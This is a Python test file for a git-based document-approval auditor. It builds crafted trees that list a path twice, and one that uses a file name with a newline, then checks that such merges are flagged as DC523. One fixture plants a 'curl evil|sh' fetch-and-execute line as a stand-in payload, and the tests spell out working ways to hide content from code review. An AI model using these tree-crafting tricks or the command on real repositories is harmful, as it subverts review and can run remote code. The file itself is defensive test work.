"""Round 30, bypasses of DC523 (``_Deriver.listed_twice`` and its ``misread`` set, session 20):
crafted trees that list a path twice, merged the way a forge merges (`approve` would refuse
them as `repeated-path`). Right: the approval does not count (DC523, `trail --strict` fails)."""

from __future__ import annotations

import subprocess

from rt30_helpers import (
    FOLDER,
    SOON,
    blob,
    codes_of,
    crafted_branch,
    folder_approved,
    forge_merge,
    git_out,
    mktree,
    trail_strict,
    two_doc_scenario,
)

from builders import procedure
from history_helpers import body


def test_a_controlled_folder_listed_again_as_a_file_does_not_count(tmp_path):
    """`approval.controlled_paths: [tools/]`; main holds the approved folder tools/release/
    (main.sh, helpers.sh). 赵磊's crafted branch keeps that folder, unchanged, and lists
    `release` a second time as a FILE (git mktree sorts the file first). git's diff is one line,
    `A tools/release`; main holds a folder there, and since session 20 (round 29, holes 1-2) an
    addition onto a folder is no second entry. A forge merges it (陈明远 approved).
    What each reader sees: Git's `main:tools/release` is the new file and
    `main:tools/release/main.sh` is gone (the file entry stops the lookup), while the folder is
    still in the tree. Right: the tree lists tools/release twice: DC523."""
    s = folder_approved(tmp_path)
    crafted_branch(s, "cr-twice", [("tools", "100755", b"release", b"#!/bin/sh\ncurl evil|sh\n")])
    listed = git_out(s, "ls-tree", "cr-twice:tools")
    assert listed.count("\trelease\n") == 2 and " tree " in listed, listed
    raw = git_out(s, "diff-tree", "-r", "--raw", "-M", "main", "cr-twice").strip()
    assert raw.endswith(f"A\t{FOLDER}") and raw.count("\n") == 0, raw
    sha = forge_merge(s, "cr-twice", approver="chenmy")
    hidden = git_out(s, "cat-file", "-t", f"main:{FOLDER}/main.sh").strip()
    code, out = trail_strict(s)
    found = codes_of(s.history(), sha)
    assert "DC523" in found and code != 0, (
        "a tree listing tools/release as a folder AND a file counts as approved "
        f"(main:{FOLDER}/main.sh reads as {hidden!r}):\n" + out
    )


def test_a_new_document_whose_name_holds_a_newline_in_a_folder_listed_twice(tmp_path):
    """Round 29's hole 3 (docs/ lists `procedures` twice: main's folder first, unchanged, then
    a folder holding only a new document) with a newline in the new document's file name
    (`ne\\nw.md`; DOC_PATH matches across lines). The `misread` check skips any path with a
    newline (``_at`` cannot send it on cat-file's line protocol), and main does not hold the
    path, so nothing flags it. Right: DC523 (a tree git fsck refuses; Git's own lookup cannot
    find the document the approval is for)."""
    s = two_doc_scenario(tmp_path)
    new = procedure(doc_id="SM-P-03", title="第三程序", effective_date=SOON, body=body("第三"))
    # mktree's text form cannot carry a newline: the second folder is made with -z
    second = (
        subprocess.run(
            ["git", "mktree", "-z"],
            cwd=s.root,
            input=f"100644 blob {blob(s, new.encode())}\tne\nw.md\0".encode(),
            capture_output=True,
            check=True,
        )
        .stdout.decode()
        .strip()
    )
    docs = git_out(s, "ls-tree", "main:docs").splitlines()
    docs.append(f"040000 tree {second}\tprocedures")
    docs_tree = mktree(s, docs)
    top = git_out(s, "ls-tree", "main").replace(s.git.run("rev-parse", "main:docs"), docs_tree)
    tree = mktree(s, top.splitlines())
    tip = s.git.run("commit-tree", tree, "-p", "main", "-m", "cr-nl: 修改", who="zhaolei")
    s.git.run("branch", "-f", "cr-nl", tip)
    raw = subprocess.run(
        ["git", "diff-tree", "-r", "-z", "--name-status", "main", tip],
        cwd=s.root,
        capture_output=True,
        check=True,
    ).stdout
    assert raw == b"A\0docs/procedures/ne\nw.md\0", raw
    sha = forge_merge(s, "cr-nl")
    history = s.history()
    found = codes_of(history, sha)
    code, out = trail_strict(s)
    counted = [
        (d.doc_id if hasattr(d, "doc_id") else k, r.approved)
        for k, d in history.documents.items()
        for r in d.revisions
        if r.commit == sha
    ]
    assert "DC523" in found and code != 0, (
        f"found {sorted(found)}, revisions {counted}: a folder listed twice hiding a document "
        "named with a newline counts as approved:\n" + out
    )
